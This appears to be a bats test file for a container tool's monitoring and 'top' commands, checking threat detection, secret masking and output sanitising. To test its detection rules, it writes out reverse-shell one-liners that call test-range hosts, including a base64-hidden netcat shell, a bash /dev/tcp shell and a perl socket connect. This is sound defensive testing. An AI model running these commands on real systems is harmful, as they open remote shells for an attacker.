#!/usr/bin/env bats
# SPDX-License-Identifier: GPL-2.0-or-later
# Looking at what a container does just now, watched or not; which rules a command raises.

setup_file() {
	load ../lib/common
	coi_setup
}

teardown_file() {
	load ../lib/common
	coi_teardown
}

setup() {
	load ../lib/common
	load ../lib/watched
	cd "$T/ws"
	settings false
}

settings() { # WATCHED
	printf '[container]\ninit = "coi-init"\n[monitoring]\nenabled = %s\n' "$1" >"$HOME/.coi/config.toml"
}

sees() { # NAME JQ-CONDITION
	coi monitor "$1" --json 2>/dev/null | jq -e "$2" >/dev/null
}

@test "monitor: connections, processes, amounts and threats of one that nobody watches" {
	launch m1
	"$COI" container exec m1 -- bash -c 'exec 9<>/dev/tcp/public.test/7; read -r x; : "$1"' x "$(printf 'a\033[1m\nb')" \
		</dev/zero >/dev/null 2>&1 3>&- &
	local one=$! two
	"$COI" container exec m1 -- bash -c 'ln -s /usr/bin/bash /tmp/xmrig; mkfifo /tmp/f; exec /tmp/xmrig -c "read -r x </tmp/f" --token=hunter2' 3>&- &
	two=$!
	within 20 sees m1 '.threats | length == 1'
	within 20 sees m1 '.network.active_connections == 1'
	coi monitor m1 --format json 2>/dev/null | jq -e '.container == "m1"'
	coi monitor m1 --json >"$T/json" 2>"$T/err"
	grep -q '^Container: m1$' "$T/err"
	jq -e '.container == "m1" and (.container_ip | startswith("10.77.")) and (has("errors") | not) and
		(keys_unsorted == ["timestamp", "container", "container_ip", "network", "processes", "filesystem", "resources", "threats"])' "$T/json"
	jq -e '.network.connections[] | select(.remote_addr == "203.0.113.10:7" and .protocol == "tcp" and
		.state == "ESTABLISHED" and .uid == 0 and .suspicious == false)' "$T/json"
	jq -e '.processes | .available and .total_count == (.processes | length)' "$T/json"
	# By the host's numbers; what a process calls itself is escaped.
	jq -r '.processes.processes[] | select(.command | test("^/tmp/xmrig")).pid' "$T/json" >"$T/pid"
	grep -q xmrig "/proc/$(cat "$T/pid")/cmdline"
	jq -e '.processes.processes[] | select(.command | contains("a\\x1b[1m\\x0ab"))' "$T/json"
	jq -e '.resources | .memory_mb > 0 and .cpu_time_seconds >= 0' "$T/json"
	jq -e '.filesystem | .available and .read_rate_mb_per_sec >= 0' "$T/json"
	# As a record has it, secrets masked; nothing is done about it and nothing kept.
	jq -e --argjson pid "$(cat "$T/pid")" '.threats[0] | .level == "high" and .title == "Attack tool" and .action == "logged" and
		.evidence.process.pid == $pid and (.evidence.process.command | test("--token=\\*\\*\\*"))' "$T/json"
	not grep -q 'Attack tool' "$HOME/.coi/audit/m1.jsonl"

	coi monitor m1 >"$T/text" 2>/dev/null
	not grep -qP '[\x00-\x08\x0b-\x1f\x7f]' "$T/text"
	grep -q '203.0.113.10:7 ' "$T/text"
	grep -q '^Threats: 1$' "$T/text"
	grep -q '  high: Attack tool: .*/tmp/xmrig' "$T/text"
	# One look: nothing goes into the kernel for it, and no terminal to who looks.
	strace -f -o "$T/trace" -e trace=bpf,sendmsg "$COI" monitor m1 --json >/dev/null 2>&1
	grep -q SCM_RIGHTS "$T/trace"
	not grep -q 'bpf(' "$T/trace"
	not grep -Eq 'SCM_RIGHTS.*cmsg_data=\[([0-9]+, )?0[],]' "$T/trace"
	coi container delete --force m1 2>/dev/null
	wait "$one" "$two" || true
}

@test "monitor: who looks into the environment, and one that is frozen is looked at too" {
	settings true
	launch m2
	"$COI" container exec m2 -- bash -c 'mkfifo /tmp/f; read -r x </tmp/f; : /proc/1/environ' 3>&- >/dev/null 2>&1 &
	local one=$!
	within 20 sees m2 '.processes.processes[] | select(.env_access and (.command | test("environ")))'
	"$COI" container exec m2 -- bash -c 'ln -s /usr/bin/bash /tmp/xmrig; exec /tmp/xmrig -c "read -r x </tmp/f"' 3>&- >/dev/null 2>&1 &
	local two=$!
	frozen() { coi container list --format json | jq -e '.[] | select(.name == "m2" and .status == "Frozen")' >/dev/null; }
	within 20 frozen
	sees m2 '[.threats[].title] | contains(["Attack tool"])'
	coi container delete --force m2 2>/dev/null
	wait "$one" "$two" || true
}

@test "monitor --watch: looks again and again, until it is told to end or the container is gone" {
	launch m3
	"$COI" monitor m3 --watch 1 >"$T/watched" 2>&1 3>&- &
	local one=$!
	twice() { [ "$(grep -c '^Threats: ' "$T/watched")" -ge 2 ]; }
	within 20 twice
	kill -INT "$one"
	wait "$one"
	grep -q 'again in 1 s; Ctrl-C ends it' "$T/watched"
	"$COI" monitor m3 --watch 1 >"$T/watched" 2>&1 3>&- &
	one=$!
	within 20 grep -q '^Threats: ' "$T/watched"
	coi container delete --force m3
	wait "$one"
}

@test "monitor: what is refused" {
	run -2 coi monitor --watch 1 --json
	grep -q 'exclude each other' <<<"$output"
	run ! coi monitor nobody
	grep -q "no running container has the name or alias 'nobody'" <<<"$output"
	run ! coi monitor
	grep -q 'no running container belongs to' <<<"$output"
	run ! coi monitor --watch -1
	run -2 coi monitor --format table
}

@test "monitor patterns: every rule is listed, and what a command raises is said with why" {
	coi monitor patterns list --json >"$T/rules"
	jq -e 'length > 20 and all(.rule and .level and .category and .title and .description) and
		((map(.rule) | unique | length) == length)' "$T/rules"
	[ "$(coi monitor patterns list | wc -l)" = "$(($(jq length "$T/rules") + 1))" ]

	# A line for a shell; what is hidden in it is found.
	run -0 coi monitor patterns test 'echo bmMgLWUgc2ggMS4yLjMuNCA1Cg== | base64 -d | sh'
	grep -q '^critical: Reverse shell (reverse-shell.netcat)' <<<"$output"
	grep -q '  in:  nc -e sh 1.2.3.4 5$' <<<"$output"
	grep -q '  then: nothing, monitoring is off' <<<"$output"
	# A program and its words.
	run -0 coi monitor patterns test -- git push origin main
	grep -q '^No rule fires.$' <<<"$output"
	# By the settings that are in force.
	settings true
	coi monitor patterns test --json 'bash -i >& /dev/tcp/203.0.113.10/4444 0>&1' >"$T/found"
	jq -e 'length == 1 and .[0].rule == "reverse-shell.dev-tcp" and .[0].level == "critical" and .[0].action == "killed"' "$T/found"
	printf 'reverse_shell_one_liners = "off"\n' >>"$HOME/.coi/config.toml"
	coi monitor patterns test --json -- perl -e 'use Socket; socket(S,PF_INET,SOCK_STREAM,6); connect(S,sockaddr_in(4444,inet_aton("203.0.113.10")))' >"$T/found"
	not jq -e '.[] | select(.level == "critical")' "$T/found"
	# Nothing of it reaches the terminal as it is.
	run -0 coi monitor patterns test "$(printf 'nc -e \033]0;x\007sh 1.2.3.4 5')"
	not grep -qP '[\x00-\x08\x0b-\x1f\x7f]' <<<"$output"
	run ! coi monitor patterns test
}

@test "top: nothing runs, and what is refused" {
	[ "$(coi top)" = 'No running containers.' ]
	[ "$(coi top --json)" = '[]' ]
	run -2 coi top --watch 1 --json
	grep -q 'exclude each other' <<<"$output"
	for bad in 0 -1 x nan 1e9 ''; do
		run -2 coi top --interval "$bad"
		grep -q "'$bad' is no interval" <<<"$output"
	done
	run -2 coi top --sort size
	run -2 coi top --procs --sort net
	grep -q 'processes are sorted by cpu or mem' <<<"$output"
	run ! coi top nobody
	grep -q "no running container has the name or alias 'nobody'" <<<"$output"
}

@test "top: containers and processes, most first, by the host's numbers" {
	launch t1
	launch t2
	"$COI" container exec t1 -- bash -c 'mkfifo /tmp/f; while :; do :; done' 3>&- >/dev/null 2>&1 &
	local busy=$! large
	"$COI" container exec t2 -- bash -c 'x=$(head -c 30000000 /dev/zero | tr "\0" a); mkfifo /tmp/f; read -r y </tmp/f' x "$(printf 'a\033[1m\nb')" 3>&- >/dev/null 2>&1 &
	large=$!
	ready() { sees t1 '.resources.cpu_time_seconds > 0.2' && sees t2 '.resources.memory_mb > 30'; }
	within 20 ready

	coi top -i 0.3 --json >"$T/top"
	jq -e 'map(.name) == ["t1", "t2"]' "$T/top"
	jq -e '.[0].cpu_percent > .[1].cpu_percent' "$T/top"
	jq -e '.[0] | has("alias") | not' "$T/top"
	jq -e 'all(has("memory_mb") and has("disk_read_mb_per_sec") and has("disk_write_mb_per_sec") and
		has("net_rx_mb_per_sec") and has("net_tx_mb_per_sec"))' "$T/top"
	coi top -i 0.3 --json --sort mem | jq -e 'map(.name) == ["t2", "t1"]'
	coi top -i 0.3 >"$T/text"
	head -n 1 "$T/text" | grep -qx 'CONTAINER  ALIAS  CPU%  *MEM  *DISK R/W  *NET R/W  *WORKSPACE'

	coi top -i 0.3 --procs --json >"$T/top"
	jq -e '.[0] | .container == "t1" and (.command | test("while")) and .user == "0"' "$T/top"
	grep -q while "/proc/$(jq '.[0].pid' "$T/top")/cmdline"
	coi top -i 0.3 --procs --json --sort mem | jq -e '.[0] | .container == "t2" and .memory_mb > 30'
	# Of one: no column for whose they are, and nothing raw on the terminal.
	coi top t2 -i 0.3 --sort mem >"$T/text"
	head -n 1 "$T/text" | grep -qx 'PID  *USER  *CPU%  *MEM  *COMMAND'
	not grep -qP '[\x00-\x08\x0b-\x1f\x7f]' "$T/text"
	not grep -q while "$T/text"
	grep -q 'coi kill' "$T/text"

	"$COI" top -i 0.1 --watch 1 >"$T/watched" 2>&1 3>&- &
	local one=$!
	twice() { [ "$(grep -c '^CONTAINER' "$T/watched")" -ge 2 ]; }
	within 20 twice
	kill -INT "$one"
	wait "$one"
	coi container delete --force t1 2>/dev/null
	coi container delete --force t2 2>/dev/null
	wait "$busy" "$large" || true
}
